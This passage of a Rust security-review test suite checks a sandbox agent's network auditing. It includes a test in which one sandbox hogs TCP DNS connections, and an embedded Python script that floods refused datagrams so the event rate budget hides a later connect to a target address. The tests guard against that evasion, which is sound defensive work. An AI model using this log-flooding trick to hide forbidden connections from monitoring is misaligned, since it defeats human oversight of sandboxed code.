        let out = nobody_python(&env, "web", PY_TCP_DNS, &["ask"]);
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    };
    assert_eq!(ask(), "answered", "control: TCP DNS works");
    let mut hog = std::process::Command::new(hb_tests::agent_bin())
        .arg("--config")
        .arg(&env.config_path)
        .args(["sandbox", "run", "--policy", "web", "--user", "65534", "--"])
        .args([hb_tests::python(), "-c", PY_TCP_DNS, "hold", "40"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("hog");
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(hog.stdout.take().expect("stdout")),
        &mut line,
    )
    .expect("hog line");
    // Past the idle timeout (10 s): the hog's connections stay, kept alive by its queries.
    std::thread::sleep(std::time::Duration::from_secs(12));
    let answer = ask();
    let _ = hog.kill();
    let _ = hog.wait();
    assert_eq!(
        answer,
        "answered",
        "another sandbox of the policy got no TCP DNS while one sandbox {}",
        line.trim()
    );
}

/// Sends `argv[1]` refused datagrams to 10.9.8.7:9 (noise), then connects to
/// 198.51.100.99:80 (the address the attacker is after), then, after the event window
/// (10 s), sends one more refused datagram.
const PY_CONNECT_COVER: &str = r#"
import errno, socket, sys, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(int(sys.argv[1])):
    try:
        u.sendto(b"x", ("10.9.8.7", 9))
    except OSError:
        pass
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("198.51.100.99", 80))
    print("target OK", flush=True)
except OSError as e:
    print("target", errno.errorcode.get(e.errno, str(e.errno)), flush=True)
time.sleep(11)
try:
    u.sendto(b"x", ("10.9.8.8", 9))
except OSError:
    pass
print("late", flush=True)
"#;

// FINDING F5b: the kernel's event budget is per cgroup (`HB_EVENT_RATE`, 64 per 10 s);
// past it a refused connect is counted into the next admitted event's `suppressed` and
// never named. A sandbox sends 64 cheap refused datagrams, then tries the address it is
// after: no event and no audit line ever names that address.
/// A refused connect made after a flood of other refusals is still named in an event
/// once the budget allows.
#[test]
fn a_flood_of_refused_sends_does_not_hide_the_address_tried_next() {
    hb_tests::require_root();
    private_netns(&["10.9.8.7", "10.9.8.8", "198.51.100.99"]);
    let mut env = TestEnv::new("review-connectcover", CLOSED_POLICY);
    env.start_agent();
    let said = cover_run(&env, "closed", PY_CONNECT_COVER);
    assert!(
        said.contains("target EPERM"),
        "the connect was refused: {said}"
    );
    env.wait_event("the refusal after the window", |e| e["dst"] == "10.9.8.8");
    let named = env.events().iter().any(|e| e["dst"] == "198.51.100.99");
    assert!(
        named,
        "no event names the refused 198.51.100.99: a flood of refused sends hid it"
    );
}
